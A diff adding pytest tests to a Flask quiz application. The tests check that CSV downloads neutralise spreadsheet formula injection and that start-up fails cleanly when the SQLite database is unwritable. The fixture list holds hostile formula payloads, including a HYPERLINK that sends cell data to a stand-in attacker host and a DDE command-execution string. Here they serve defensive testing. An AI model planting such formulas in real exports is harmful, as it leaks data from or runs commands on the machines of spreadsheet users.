@@ -9,10 +9,14 @@ this file covers what those leave out.
 
 from __future__ import annotations
 
+import csv
 import io
+import os
 import re
+import sqlite3
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -20,10 +24,11 @@ import pytest
 from sqlalchemy import func, select
 from werkzeug.security import generate_password_hash
 
-from quiz import create_app, models, store
+from quiz import create_app, models, safe_csv, store
 from quiz.bank.schema import SINGLE_CHOICE, Option, Question
 from quiz.extensions import db
 from tests.conftest import form_token
+from tests.live_server import free_port
 from tests.takers import Taker
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -457,3 +462,107 @@ def test_oversize_chunked_body_is_413_not_cut_short(app, client):
     response = client.post(taker.section_url(1), environ_overrides=chunked(answer.encode()))
     assert response.status_code == 303
     assert taker.stored() == {question.id: [question.options[0].id]}
+
+
+# --- CSV downloads and spreadsheet formulas --------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(text):
+    out = io.StringIO()
+    safe_csv.Writer(out).writerow([text, -12, 3.5, "plain", "a=1", None])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "-12", "3.5", "plain", "a=1", ""]
+
+
+def test_the_takers_csv_neutralises_formulas_in_bank_text(app, client, real_bank):
+    """Area titles come from whoever maintains the bank; a spreadsheet must show them as text."""
+    hostile = FORMULAS[0]
+    areas = tuple(replace(a, title=hostile) if a.key == "technical" else a for a in real_bank.areas)
+    with app.app_context():
+        store.save_bank(replace(real_bank, areas=areas))
+    taker = Taker(client, app)
+    taker.start()
+    taker.answer_all(lambda q: [q.options[0].id])
+    taker.finish()
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/report/{taker.token}.csv").get_data(as_text=True))))
+    assert {r["area"]: r["title"] for r in rows}["technical"] == "'" + hostile
+
+
+def test_attempts_csv_neutralises_formulas_in_stored_answers(app, client, instructor):
+    """Stored option ids are checked on the way in; the CSV does not rely on that."""
+    with app.app_context():
+        bank = store.current_bank()
+        question = bank.questions[0]
+        attempt = models.Attempt(version_ids=[q.version_id for q in bank.questions],
+                                 finished_at=models.utcnow())
+        db.session.add(attempt)
+        db.session.flush()
+        db.session.add(models.Answer(attempt_id=attempt.id, question_id=question.id,
+                                     version_id=question.version_id, option_ids=["=1+2"]))
+        db.session.commit()
+    sign_in(client)
+    rows = list(csv.DictReader(io.StringIO(client.get("/instructor/attempts.csv").get_data(as_text=True))))
+    assert rows[0][question.id] == "'=1+2"
+
+
+# --- start-up checks -------------------------------------------------------------------------
+
+# Root may write any file: these tests drop the capabilities that let it, so modes count.
+AS_AN_ORDINARY_USER = (("setpriv", "--bounding-set", "-dac_override,-dac_read_search,-fowner")
+                       if os.geteuid() == 0 else ())
+
+
+@pytest.fixture
+def read_only_database(tmp_path):
+    folder = tmp_path / "data"
+    folder.mkdir()
+    database = folder / "quiz.sqlite3"
+    sqlite3.connect(database).close()
+    database.chmod(0o444)
+    yield database
+    database.chmod(0o644)
+    folder.chmod(0o755)
+
+
+def test_an_unwritable_database_file_stops_start_up_in_one_line(read_only_database):
+    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
+                                        "DATABASE_URL": f"sqlite:///{read_only_database}"},
+                                       *AS_AN_ORDINARY_USER)
+    assert done.returncode == 3
+    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
+    assert done.stderr.startswith(f"Error: The database file {read_only_database} is not writable by ")
+    assert "chown or chmod" in done.stderr and "DATABASE_URL" in done.stderr
+
+
+def test_an_unwritable_database_folder_stops_start_up_in_one_line(read_only_database):
+    read_only_database.chmod(0o644)
+    read_only_database.parent.chmod(0o555)  # SQLite could not write its -wal and -shm files
+    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
+                                        "DATABASE_URL": f"sqlite:///{read_only_database}"},
+                                       *AS_AN_ORDINARY_USER)
+    assert done.returncode == 3, done.stderr
+    assert done.stderr.startswith(f"Error: The database folder {read_only_database.parent} is not "
+                                  "writable by "), done.stderr
+
+
+def test_gunicorn_stops_at_once_on_an_unwritable_database(read_only_database):
+    """No worker restarting in a loop, no 500 on the first request: gunicorn exits, and the
+    line that says why is in its output."""
+    env = {"PATH": "/usr/bin:/bin", "SECRET_KEY": STRONG_KEY,
+           "DATABASE_URL": f"sqlite:///{read_only_database}"}
+    done = subprocess.run([*AS_AN_ORDINARY_USER, sys.executable, "-m", "gunicorn", "-w", "2",
+                           "-b", f"127.0.0.1:{free_port()}", "quiz:create_app()"],
+                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
+    assert done.returncode != 0
+    assert f"Error: The database file {read_only_database} is not writable" in done.stderr
+    assert "Traceback" not in done.stderr, done.stderr
+
+
+def test_a_writable_database_starts(tmp_path):
+    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
+                                        "DATABASE_URL": f"sqlite:///{tmp_path / 'quiz.sqlite3'}"},
+                                       *AS_AN_ORDINARY_USER)
+    assert done.returncode == 0, done.stderr
